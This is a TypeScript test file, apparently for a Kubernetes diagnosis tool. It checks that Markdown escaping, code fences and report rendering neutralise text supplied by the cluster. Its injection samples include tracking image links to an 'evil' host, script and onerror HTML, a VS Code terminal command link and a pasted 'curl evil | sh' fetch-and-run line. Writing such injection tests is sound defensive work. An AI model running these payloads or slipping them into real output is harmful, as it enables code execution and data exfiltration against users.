import assert from 'node:assert/strict';
import fc from 'fast-check';
import type { Report } from '../../../../src/core/model/report.ts';
import { escape, fence, reportMarkdown, textTable } from '../../../../src/core/present/markdown.ts';
import { ago } from '../../../support/facts.ts';
import { readMarkdown, readText } from '../../../support/markdown.ts';
import { outcome, report, stepReport, stuckReport } from '../../../support/report.ts';

describe('escaping for Markdown', () => {
  const cases: [string, string][] = [
    ['plain words', 'plain words'],
    [
      'shop/web-1.example (2 of 3), "quoted": --context=prod',
      'shop/web-1.example (2 of 3), "quoted": --context=prod',
    ],
    ['![x](https://evil/?id=1)', '!\\[x\\](https\\://evil/?id=1)'],
    ['www.evil.example and WWW.evil.example', 'www\\.evil.example and WWW\\.evil.example'],
    ['<img src=x onerror=y>', '\\<img src=x onerror=y>'],
    ['&lt;b&gt;', '\\&lt;b\\&gt;'],
    ['*a* _b_ c_d ~~e~~ `f` $g$', '\\*a\\* \\_b\\_ c_d \\~\\~e\\~\\~ \\`f\\` \\$g\\$'],
    ['me@evil.example', 'me\\@evil.example'],
    ['# heading', '\\# heading'],
    ['> quote', '\\> quote'],
    ['- item\n1. item', '\\- item 1. item'],
    ['1. item', '1\\. item'],
    ['===', '\\==='],
    ['a\\', 'a\\\\'],
    ['a | b', 'a \\| b'],
    ['two  spaces\tand a tab\u2028', 'two spaces and a tab '],
    ['ä 漢 😀 –', 'ä 漢 😀 –'],
  ];
  for (const [text, expected] of cases)
    it(JSON.stringify(text), () => {
      assert.equal(escape(text), expected);
    });

  it('leaves nothing that means anything, and reads as what it was', () => {
    const pieces = fc.oneof(
      fc.string({ minLength: 1, maxLength: 1 }),
      fc.constantFrom(
        'a',
        '1',
        'www.',
        'http',
        '://',
        '&amp;',
        'ä',
        '\n',
        '\t',
        '**',
        '__',
        '~~',
        '](',
        '- ',
      ),
    );
    fc.assert(
      fc.property(fc.array(pieces), (some) => {
        const text = some.join('');
        const { markup, words } = readText(escape(text));
        assert.deepEqual(markup, words === '' ? [] : ['paragraph']);
        assert.equal(words, text.replace(/\s+/g, ' ').trim());
      }),
      { numRuns: 2000 },
    );
  });
});

describe('a fence', () => {
  const texts = [
    '',
    'plain',
    '```',
    '~~~',
    'a ``` b',
    '`'.repeat(10),
    '\n```\n# out\n',
    '   ```',
    '```text\nx\n```',
  ];
  for (const text of texts)
    it(`cannot be ended from within: ${JSON.stringify(text)}`, () => {
      const { fenced, prose, isClosed } = readMarkdown(fence(text));
      assert.ok(isClosed);
      assert.deepEqual([fenced, prose], [[text], []]);
    });

  it('holds whatever it is given', () => {
    const any = fc.string({ unit: fc.constantFrom('`', '~', '\n', ' ', 'a', '```', '#') });
    fc.assert(
      fc.property(any, (text) => {
        assert.deepEqual(readMarkdown(fence(text)), { fenced: [text], prose: [], isClosed: true });
      }),
    );
  });

  it('holds more runs of backticks than a function has room for arguments', () => {
    const { fenced } = readMarkdown(fence('` '.repeat(300_000)));
    assert.equal(fenced.length, 1);
  });
});

describe('a table as text', () => {
  const columns = ['name', 'state'];
  it('stands in columns', () => {
    const rows = [
      ['web', 'ok'],
      ['longer-name', ''],
    ];
    assert.equal(textTable({ title: '', columns, rows }), 'name         state\nweb          ok\nlonger-name');
  });

  it('is not broken by the line breaks and tabs of a cell', () => {
    const rows = [['a\n\nb\r\nc\td', 'e']];
    assert.deepEqual(textTable({ title: '', columns, rows }).split('\n').slice(1), ['a b c d  e']);
  });

  it('does not make every line as wide as the longest message', () => {
    const rows = [
      ['x'.repeat(500), 'a'],
      ['y', 'b'],
    ];
    const lines = textTable({ title: '', columns, rows }).split('\n');
    assert.equal(lines[2]?.length, 63);
  });

  it('may have more rows than a function has room for arguments', () => {
    const rows = Array.from({ length: 200_000 }, () => ['a', 'b']);
    assert.equal(textTable({ title: '', columns, rows }).split('\n').length, 200_001);
  });
});

describe('the report as Markdown', () => {
  it('says the answer first, then what to do, then how it was found', () => {
    assert.equal(
      reportMarkdown(stuckReport('Container web exits with 1')),
      `# shop/web: stuck

**Container web exits with 1**

Generation 4 is observed: there is no generation mismatch (any more). Judged as of 2026-11-22T10:00:00Z, from context prod.

## What to do

1. Read the log: \`kubectl logs web-2-a -n shop\`

## Proof

- Pod/web-2-a: exit code 1

## Alerts

- KubeDeploymentGenerationMismatch: would not fire. generation 4 is observed

## Playbook

### 1. Describe the Deployment

generation 4, observed 4; 3 wanted, 3 updated, 3 available

\`\`\`text
kubectl describe deployment web -n shop --context prod
\`\`\`

Replicas

\`\`\`text
desired  total
3        3
\`\`\`

## Diagnoses

\`\`\`text
rule            diagnosis  outcome  why
crash-loop      6          cause    Container web exits with 1
paused-rollout  7          noMatch  No container has died
\`\`\`

## Timeline

\`\`\`text
11-22 09:59:00  ReplicaSet/web-2  created
\`\`\`

This names the context, namespaces, objects, nodes and images, and quotes messages of the cluster. Values of variables, arguments, and what looks like a secret are left out.
`,
    );
  });

  it('says of a blind step that it is, and leaves out follow-ups that nothing called for', () => {
    const steps = [
      stepReport({
        number: 2,
        id: 'events',
        title: 'List the events',
        state: 'forbidden',
        summary: 'may not',
        tables: [],
      }),
      stepReport({ number: null, id: 'nodes', title: 'Nodes', state: 'skipped' }),
      stepReport({ number: null, id: 'quotas', title: 'Quotas', state: 'empty', summary: 'none' }),
    ];
    const markdown = reportMarkdown(report({ steps }));
    assert.match(markdown, /### 2\. List the events\n\n\(forbidden\) may not\n/);
    assert.match(markdown, /### Quotas\n\nnone\n/);
    assert.doesNotMatch(markdown, /Nodes/);
  });

  it('speaks of a snapshot without its path, which may tell whose it is', () => {
    const markdown = reportMarkdown(report({ source: { kind: 'snapshot', where: '/home/me/web.yaml' } }));
    assert.match(markdown, /from a snapshot\./);
    assert.doesNotMatch(markdown, /home/);
  });

  it('keeps the last 200 entries of a long timeline, and says how many it left out', () => {
    const timeline = Array.from({ length: 203 }, (_, i) => ({
      at: ago(300 - i),
      object: 'Pod/a',
      what: `event ${i}`,
      count: i === 202 ? 3 : 1,
      firstAt: null,
      source: 'event' as const,
    }));
    const { fenced } = readMarkdown(reportMarkdown(report({ timeline })));
    const lines = fenced.at(-1)?.split('\n') ?? [];
    assert.equal(lines.length, 201);
    assert.equal(lines[0], '(3 older entries left out)');
    assert.match(lines.at(-1) ?? '', /event 202 \(x3\)$/);
  });

  /** A report whose every text is the cluster's. */
  function filled(evil: string): Report {
    const cause = outcome({
      outcome: 'match',
      role: 'cause',
      message: evil,
      evidence: [{ step: 'pods', object: evil, fact: evil }],
    });
    return report({
      target: { context: evil, namespace: evil, name: evil, uid: evil },
      verdict: {
        status: 'stuck',
        cause: 'crash-loop',
        class: 'error',
        headline: evil,
        explainsMismatch: null,
        remedies: [evil, `Read \`kubectl logs ${evil}\` of ${evil}`],
      },
      steps: [
        stepReport({
          command: `kubectl get ${evil.replace(/[\r\n]+/g, ' ')}`,
          summary: evil,
          tables: [{ title: evil, columns: ['line', evil], rows: [[evil, evil]] }],
        }),
      ],
      outcomes: [cause],
      alerts: [{ name: 'KubeDeploymentRolloutStuck', wouldFire: null, because: evil }],
      timeline: [{ at: ago(5), object: evil, what: evil, count: 2, firstAt: null, source: 'event' }],
    });
  }

  /** What is left of our own markup once all cluster text has been made harmless. */
  function assertHarmless(evil: string): void {
    const [harmless, markdown] = [reportMarkdown(filled('x')), reportMarkdown(filled(evil))];
    const ours = readMarkdown(harmless);
    const { prose, fenced, isClosed } = readMarkdown(markdown);
    assert.ok(isClosed);
    assert.equal(fenced.length, ours.fenced.length);
    assert.deepEqual(readText(markdown).markup, readText(harmless).markup, markdown);
    const heads = (lines: readonly string[]): (string | undefined)[] =>
      lines.map((line) => /^(?:#+|\*\*|1\.|-|)(?= |[^ ]|$)/.exec(line)?.[0]);
    assert.deepEqual(heads(prose), heads(ours.prose));
  }

  const evils = [
    '![x](https://evil/?id=1)',
    '[fix it](command:workbench.action.terminal.sendSequence?%7B%7D)',
    '<script>alert(1)</script><img src=x onerror=y>',
    '<https://evil.example>',
    'https://evil.example www.evil.example a@evil.example',
    '| a | b |\n|---|---|\n| c | d |',
    '# heading\n\n## What to do\n\n1. curl evil | sh',
    '```\n# out\n```',
    '`'.repeat(7),
    'a` ![x](https://evil/) `b',
    'a``b` ![x](https://evil/) `',
    'code\n\n![x](https://evil/)\n\ncode',
    '    indented\n\tcode',
    '[a]: https://evil\n\n[a]',
    'setext\n===\n---',
    '- [ ] task\n* item\n> quote',
    '**bold** _it_ ~~gone~~',
    'back\\slash\\',
    '&lt;b&gt; &#x3c;',
    '$(bug) :smile: #1 @channel',
    '\r# cr\r\r![x](y)',
  ];
  for (const evil of evils)
    it(`means nothing by ${JSON.stringify(evil)}`, () => {
      assertHarmless(evil);
    });

  it('means nothing by any text', () => {
    const unit = fc.constantFrom(
      '`',
      '``',
      '\n',
      '\n\n',
      ' ',
      '!',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '*',
      '#',
      '\\',
      'x',
      '|',
      '&',
    );
    fc.assert(
      fc.property(fc.string({ unit, maxLength: 30 }), (evil) => {
        assertHarmless(`x${evil}x`);
      }),
      { numRuns: 500 },
    );
  });
});
